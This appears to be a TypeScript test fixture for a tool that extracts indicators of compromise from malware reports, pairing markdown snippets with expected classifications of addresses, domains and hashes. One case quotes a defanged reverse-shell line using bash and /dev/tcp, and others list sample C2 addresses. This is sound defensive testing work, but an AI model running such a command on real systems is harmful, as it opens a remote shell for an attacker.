import { type ArticleCase, md5, sha1, sha256 } from './article.ts';

const LEAD = 'The malware was seen in March.\n\n';

/** Values that can be read in two ways, of which one is wrong. */
export const READINGS: ArticleCase[] = [
  {
    name: 'a network at the end of a sentence, and a network with its netmask',
    markdown: `${LEAD}Others were in 58.64.201.0/24. It scans them.\n\n## IOCs\n\n- 85.93.60.0/255.255.252.0\n- 85.93.70.0 netmask 255.255.255.0`,
    want: { '58.64.201.0/24': 'indicator', '85.93.60.0/22': 'indicator+', '85.93.70.0/24': 'indicator+' },
  },
  {
    name: 'names of networks in prose are not addresses',
    markdown: `${LEAD}It skips 10.0.0.0 and picks networks such as 181.0.0.0 and 77.0.0.0 to scan. It talks to tern-panel[.]top.`,
    want: { 'tern-panel.top': 'indicator+' },
  },
  {
    name: "a shell's own socket is an address with port",
    markdown: `${LEAD}\`\`\`\nbash -i >& /dev/tcp/91.213.9[.]54/8443 0>&1\n\`\`\``,
    want: { '91.213.9.54:8443': 'indicator+' },
  },
  {
    name: 'ports as tcpdump writes them',
    markdown: `${LEAD}\`\`\`\n11:04:10.221 IP 192.168.8.14.52210 > 91.215.86.61.443: Flags [S], seq 1\n11:05:10.221 IP 192.168.8.14.52211 > cc.murre-sync.net.8443: Flags [S]\n\`\`\``,
    want: { '91.215.86.61:443': 'indicator+', 'cc.murre-sync.net': 'indicator' },
  },
  {
    name: 'an address that malware beacons to is not a version',
    markdown: `${LEAD}The implant beacons to 5.8.18.7 and is sold as release 5.8.18.9.`,
    want: { '5.8.18.7': 'indicator', '5.8.18.9': 'junk' },
  },
  {
    name: 'an address with a port, or one that traffic goes to, is not a version',
    markdown: `${LEAD}It then moved on to 12.3.4.5 on port 443. Connections to 6.2.3.4 were logged, and so was traffic from 7.1.2.3. The patch is 4.1.2.3.`,
    want: { '12.3.4.5': 'indicator', '6.2.3.4': 'indicator', '7.1.2.3': 'indicator', '4.1.2.3': 'junk' },
  },
  {
    name: 'the label of a host that looks like a hash',
    markdown: `${LEAD}Suspicious domains:\n\n- ${sha1(3)}.x.plover-dns[.]net\n- ${md5(3)}.exe`,
    want: { [`${sha1(3)}.x.plover-dns.net`]: 'indicator+', [md5(3)]: 'indicator+' },
  },
  {
    name: "a file that is called by its hash, and a bot's id",
    markdown: `${LEAD}\`\`\`\n/srv/samples/${sha256(4)}\n/gate/OFFICE-PC_W617601.${md5(4).toUpperCase()}\n\`\`\``,
    want: { [sha256(4)]: 'indicator+' },
  },
  {
    name: 'a column of identifiers holds no hashes',
    markdown: `${LEAD}| Family | Bot ID |\n| --- | --- |\n| Osprey | ${md5(5)} |`,
    want: { [md5(5)]: 'context' },
  },
  {
    name: 'names of files and of detections in a table of indicators are not hosts',
    markdown: `${LEAD}## Indicators of compromise\n\n| SHA-256 | File name | Detection |\n| --- | --- | --- |\n| ${sha256(6)} | setup.sh.save | Generic.mg.77 |\n| ${sha256(7)} | run.sh | Agent.TC |`,
    want: { [sha256(6)]: 'indicator+', [sha256(7)]: 'indicator+' },
  },
  {
    name: 'units of systemd are not hosts',
    markdown: `${LEAD}It writes this unit:\n\n\`\`\`\nAfter=network-online.target\nWantedBy=graphical.target\n\`\`\``,
    want: {},
  },
  {
    name: 'products that are spelt like hosts',
    markdown: `${LEAD}## Indicators of compromise\n\n- User-Agent: Mozilla/4.0 (compatible; MSIE 8.0; ASP.NET)\n- Header: X-Powered-By: ASP.NET\n- C2: 45.66.231.71`,
    want: { '45.66.231.71': 'indicator+' },
  },
];
